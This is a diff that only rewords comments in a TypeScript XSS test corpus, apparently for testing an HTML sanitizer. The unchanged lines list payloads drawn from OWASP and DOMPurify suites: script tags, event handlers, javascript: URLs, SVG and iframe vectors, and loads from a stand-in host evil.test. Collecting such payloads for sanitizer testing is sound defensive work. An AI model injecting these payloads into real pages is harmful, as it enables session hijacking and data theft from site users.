@@ -1,9 +1,9 @@
 /**
- * Attacks on whoever shows what others wrote, gathered from the OWASP filter evasion sheet, html5sec.org, the test suites
- * of DOMPurify and sanitize-html, and reports about rich text editors. Each calls `hit()` where it comes alive.
+ * XSS attacks, from the OWASP filter evasion sheet, html5sec.org, the test suites of DOMPurify and sanitize-html, and
+ * reports about rich text editors. Each calls `hit()` if it runs.
  */
 export const xssCorpus: readonly string[] = [
-  // Scripts, whole, broken, nested and disguised.
+  // Scripts: whole, broken, nested and disguised.
   '<script>hit()</script>',
   '<SCRIPT>hit()</SCRIPT>',
   '<script src=//evil.test/x.js></script>',
@@ -19,7 +19,7 @@ export const xssCorpus: readonly string[] = [
   '<script\u0000>hit()</script>',
   '<template><script>hit()</script></template>',
   '<noscript><p title="</noscript><img src=x onerror=hit()>">',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=hit()>',
   '<img src=x onerror="hit()">',
   '<img/src="x"/onerror="hit()">',
@@ -43,7 +43,7 @@ export const xssCorpus: readonly string[] = [
   '<p onpointerrawupdate=hit()>x</p>',
   '<h2 ONCLICK=hit()>x</h2>',
   '<button popovertarget=x onbeforetoggle=hit()>x</button>',
-  // Addresses.
+  // URLs.
   '<a href="javascript:hit()">a</a>',
   '<a href="JaVaScRiPt:hit()">a</a>',
   '<a href=" javascript:hit()">a</a>',
@@ -70,7 +70,7 @@ export const xssCorpus: readonly string[] = [
   '<img src="/media/../api/auth/logout">',
   '<img srcset="https://evil.test/pixel.png 1x" src="https://evil.test/a.png">',
   '<img src=x longdesc="javascript:hit()">',
-  // Other languages inside HTML, and parsers that disagree.
+  // Other languages inside HTML, and differences between parsers.
   '<svg onload=hit()>',
   '<svg><script>hit()</script></svg>',
   '<svg><animate onbegin=hit() attributeName=x dur=1s>',
@@ -89,7 +89,7 @@ export const xssCorpus: readonly string[] = [
   '<![CDATA[<img src=x onerror=hit()>]]>',
   '<?xml version="1.0"?><script>hit()</script>',
   '<!DOCTYPE html><html><head><base href="https://evil.test/"></head><body>x</body></html>',
-  // Frames, forms, styles and what else loads or sends.
+  // Frames, forms, styles and everything else that loads or sends.
   '<iframe src="javascript:hit()"></iframe>',
   '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
   '<object data="javascript:hit()"></object>',
